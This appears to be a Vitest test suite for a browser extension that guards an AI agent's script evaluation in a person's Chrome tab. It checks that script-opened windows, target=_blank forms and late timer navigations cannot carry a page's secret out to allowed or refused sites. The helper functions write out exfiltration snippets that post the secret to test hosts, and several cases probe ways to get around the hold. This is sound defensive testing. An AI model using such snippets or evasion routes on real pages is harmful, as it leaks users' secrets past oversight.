// Windows an eval's script opens in the person's Chrome through the real extension, from its body or from a timer it
// left: a target=_blank form or a window.open into a site the agent may read is held and named next (even when the
// engine guards the window before its first request), and nothing the script opens (a form, a window.open) into a site
// the policy refuses ever gets its first request out, however late it comes. A blank window the script keeps and drives
// once its hold is over is held all the same; one the page's own code opens and drives is not.
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { EVAL_ACTIVATION_MS } from '../../shared/engine/scripted-documents.js';
import { parseSitePattern } from '../../shared/policy/pattern.js';
import type { Policy } from '../../shared/policy/policy.js';
import type { OperationResult } from '../../shared/protocol/operations.js';
import { startWatchedSite, type WatchedSite } from '../support/watched-site.js';
import { testServerPolicy } from '../support/test-policy.js';
import { startEgressTab, type EgressTab } from './support/egress-tab.js';
import type { LinkedExtension } from './support/linked-extension.js';
import type { PageProbe } from './support/page-probe.js';
import { reachedBesidesOwn } from './support/reached-site.js';
import { until } from './support/until.js';
import { forgetWatched } from './support/watched-popups.js';

let started: EgressTab;
let linked: LinkedExtension;
/** A site the policy lets the agent read: only the script hold stops a window to it. */
let readable: WatchedSite;
/** A site the policy refuses. */
let refused: WatchedSite;
let tab: string;
let page: PageProbe;
const KEY = `document.getElementById('secret').textContent`;

beforeAll(async () => {
  readable = await startWatchedSite('127.0.0.2');
  refused = await startWatchedSite('127.0.0.3');
  const policy = (): Policy => {
    const home = testServerPolicy('trusted', ['127.0.0.1']);
    const rule = (site: WatchedSite, level: 'read' | 'blocked') => ({
      site: parseSitePattern(new URL(site.origin).host),
      level,
    });
    return { ...home, rules: [rule(readable, 'read'), rule(refused, 'blocked')] };
  };
  started = await startEgressTab(policy, 'egress-late.html');
  ({ linked, tab, page } = started);
});

afterAll(async () => {
  await started?.close();
  await readable?.close();
  await refused?.close();
});

afterEach(async () => {
  await forgetWatched(linked, readable);
  await forgetWatched(linked, refused);
});

const run = (expression: string) => linked.run('eval', { tab, expression });

/** The result's list of what was held since the last one, with the readable origin written as R. */
function heldLater(result: OperationResult): string[] {
  return ((result.data?.['heldLater'] ?? []) as string[]).map((entry) => entry.replaceAll(readable.origin, 'R'));
}

/** Script that submits a target=_blank POST form carrying the page's key to `url`, then sets `marker`. */
function blankForm(url: string, marker: string): string {
  return `{ const form = document.createElement('form');
    form.target = '_blank'; form.method = 'post'; form.action = '${url}';
    form.append(Object.assign(document.createElement('input'), { name: 'key', value: ${KEY} }));
    document.body.append(form); form.submit(); form.remove(); window[${JSON.stringify(marker)}] = true; }`;
}

/** Script that opens a window carrying the page's key to `url`, then sets `marker`. */
function openWindow(url: string, marker: string): string {
  return `{ window.open('${url}?key=' + encodeURIComponent(${KEY})); window[${JSON.stringify(marker)}] = true; }`;
}

/** How many tabs Chrome has open. */
const tabCount = () => linked.browser.evaluate<number>('chrome.tabs.query({}).then((tabs) => tabs.length)');

/** The tabs Chrome shows at `site`. */
const tabsAt = (site: WatchedSite) =>
  linked.browser.evaluate<number>(`chrome.tabs.query({ url: '${site.origin}/*' }).then((tabs) => tabs.length)`);

/** Once the window to the refused site is gone (closed by the engine) and the site quiet, what reached it. */
async function reachedRefused(): Promise<string[]> {
  expect(
    await until(
      () => tabsAt(refused),
      (count) => count === 0,
      20_000,
    ),
  ).toBe(0);
  await refused.settled();
  return [...refused.requests];
}

const reachedReadable = () => reachedBesidesOwn(page, readable);

/**
 * The first non-empty heldLater of `opened` (the eval that opened the window, which names it when the host heard of the
 * blocked window before its answer, as on a busy box) or of the results after it (the host hears a moment later).
 */
function nextHeld(opened?: OperationResult): Promise<string[]> {
  const named = opened ? heldLater(opened) : [];
  if (named.length > 0) return Promise.resolve(named);
  return until(
    async () => heldLater(await run('1')),
    (held) => held.length > 0 || readable.requests.some((path) => path !== '/page-own'),
    20_000,
  );
}

/**
 * The one entry naming the form's request. The fallback says `POST R/form-late (navigation)`; the extension hears of the
 * blocked window from webNavigation, which names no method (nor does the opener's session, for a target=_blank form),
 * so it says so rather than claim GET.
 */
function expectHeld(held: string[], path: string): void {
  expect(held).toEqual([`R/${path} (navigation, method not known)`]);
}

describe('windows an eval’s script opens, through the extension', () => {
  it('a target=_blank form a timer submits into a readable site: held, and the next result names it', async () => {
    await run(`setTimeout(() => ${blankForm(`${readable.origin}/form-late`, 'lateForm')}, 1000); 0`);
    await page.until('lateForm');
    const held = await nextHeld();
    expect(await reachedReadable()).toEqual([]);
    expectHeld(held, 'form-late');
    expect(
      await until(
        () => tabsAt(readable),
        (count) => count === 0,
      ),
    ).toBe(0);
  });

  it('the same form submitted by the eval’s body itself: held, and named by that eval’s result or the next', async () => {
    const held = await nextHeld(await run(`${blankForm(`${readable.origin}/form-body`, 'bodyForm')}; 0`));
    expect(await reachedReadable()).toEqual([]);
    expectHeld(held, 'form-body');
  });

  it('a target=_blank form a timer submits into a refused site: nothing reaches it', async () => {
    await run(`setTimeout(() => ${blankForm(`${refused.origin}/form-late`, 'refusedForm')}, 1000); 0`);
    await page.until('refusedForm');
    expect(await reachedRefused()).toEqual([]);
  });

  it('the same form submitted by the eval’s body into a refused site: nothing reaches it', async () => {
    await run(`${blankForm(`${refused.origin}/form-body`, 'refusedBodyForm')}; 0`);
    expect(await reachedRefused()).toEqual([]);
  });

  it('a window the eval’s body opens into a readable site, which the engine guards at once: nothing reaches it', async () => {
    const before = await tabCount();
    // A race the old rules lost about half the time here: ten rounds.
    for (let round = 0; round < 10; round++) {
      const opened = await run(`${openWindow(`${readable.origin}/open-body`, 'openedReadable')}; 0`);
      // No call meanwhile, so the engine attaches the window as soon as it can: one that kept its opener is attached
      // before its first request (measured), and the policy its guard judges by lets the readable site through.
      const reached = () => readable.requests.length > 0;
      const settled = await until(
        async () => reached() || (await tabCount()) === before,
        (done) => done,
        20_000,
      );
      expect(settled, `round ${round}`).toBe(true);
      expect(readable.requests, `round ${round}`).toEqual([]);
      expect(await nextHeld(opened), `round ${round}`).toEqual([
        'R/open-body?key=[redacted 34 chars] (navigation, method not known)',
      ]);
    }
  });

  it('a form the eval posts into a blank window it opened and named: held, and named as a POST', async () => {
    const named = blankForm(`${readable.origin}/form-named`, 'namedForm').replace(`'_blank'`, `'handoff'`);
    const posted = await run(`window.open('', 'handoff'); ${named}; 0`);
    // The opener's session says this form's method (Page.frameRequestedNavigation); a target=_blank one's, nothing.
    expect(await nextHeld(posted)).toEqual(['POST R/form-named (navigation)']);
    expect(await reachedReadable()).toEqual([]);
  });

  it('a blank window the eval opened, sent to a readable site by a timer seconds later: nothing reaches it', async () => {
    await run(`{ const w = window.open(''); setTimeout(() => { w.location = '${readable.origin}/assigned?key=' +
      encodeURIComponent(${KEY}); window.assigned = true; }, 3000); } 0`);
    await page.until('assigned');
    expect(await nextHeld()).toEqual(['R/assigned?key=[redacted 34 chars] (navigation, method not known)']);
    expect(await reachedReadable()).toEqual([]);
  });

  it('a blank window the eval opened, sent to a readable site once the script hold is over: nothing reaches it', async () => {
    // Past the eval's activation, the DNR hold is down: only the popup's own follower (popup-trail.ts) stands.
    const late = EVAL_ACTIVATION_MS + 3_000;
    const before = await tabCount();
    await run(`{ const w = window.open(''); setTimeout(() => { w.location = '${readable.origin}/assigned-late?key=' +
      encodeURIComponent(${KEY}); window.assignedLate = true; }, ${late}); } 0`);
    await page.until('assignedLate');
    expect(await nextHeld()).toEqual(['GET R/assigned-late?key=[redacted 34 chars] (navigation)']);
    expect(await reachedReadable()).toEqual([]);
    // Held before it showed anything: the empty window is closed.
    expect(
      await until(
        () => tabCount(),
        (count) => count === before,
        20_000,
      ),
    ).toBe(before);
  }, 60_000);

  it('a form the eval’s timer posts into its named blank window once the hold is over: held, named as a POST', async () => {
    // The form's request names no stack: the window's first document request is taken as its opener's script's.
    const named = blankForm(`${readable.origin}/form-named-late`, 'namedLate').replace(`'_blank'`, `'lateHandoff'`);
    await run(`window.open('', 'lateHandoff'); setTimeout(() => ${named}, ${EVAL_ACTIVATION_MS + 3_000}); 0`);
    await page.until('namedLate');
    expect(await nextHeld()).toEqual(['POST R/form-named-late (navigation)']);
    expect(await reachedReadable()).toEqual([]);
  }, 60_000);

  it('a blank window the person’s click opens, which the page sends to a readable site later: it loads', async () => {
    // An eval reached the page, but the window and its navigation are the page's own code (the probe's, untagged), run
    // on the person's gesture once the eval's activation is over.
    await run('0');
    await new Promise((resolve) => setTimeout(resolve, EVAL_ACTIVATION_MS + 500));
    await page.evaluate(
      `{ const w = window.open(''); setTimeout(() => { w.location = '${readable.origin}/person-late';
        window.personAssigned = true; }, 2000); }`,
      { userGesture: true },
    );
    await page.until('personAssigned');
    expect(
      await until(
        async () => readable.requests,
        (paths) => paths.includes('/person-late'),
        20_000,
      ),
    ).toContain('/person-late');
    expect(heldLater(await run('1'))).toEqual([]);
  });

  it('a window the eval’s body opens into a refused site: nothing reaches it, every time', async () => {
    for (let round = 0; round < 5; round++) {
      await run(`${openWindow(`${refused.origin}/open-body`, 'opened')}; 0`);
      expect(await reachedRefused(), `round ${round}`).toEqual([]);
    }
  });

  it('a window the page opens on the person’s gesture, long after the eval: nothing reaches the refused site', async () => {
    // Past the script hold's window, and no act: only a standing refusal of the policy's blocked sites stops it.
    await run(`window.lateOpen = () => ${openWindow(`${refused.origin}/open-later`, 'openedLater')}; 0`);
    await new Promise((resolve) => setTimeout(resolve, EVAL_ACTIVATION_MS + 500));
    for (let round = 0; round < 10; round++) {
      await page.evaluate('window.lateOpen()', { userGesture: true });
      expect(await reachedRefused(), `round ${round}`).toEqual([]);
    }
  });
});
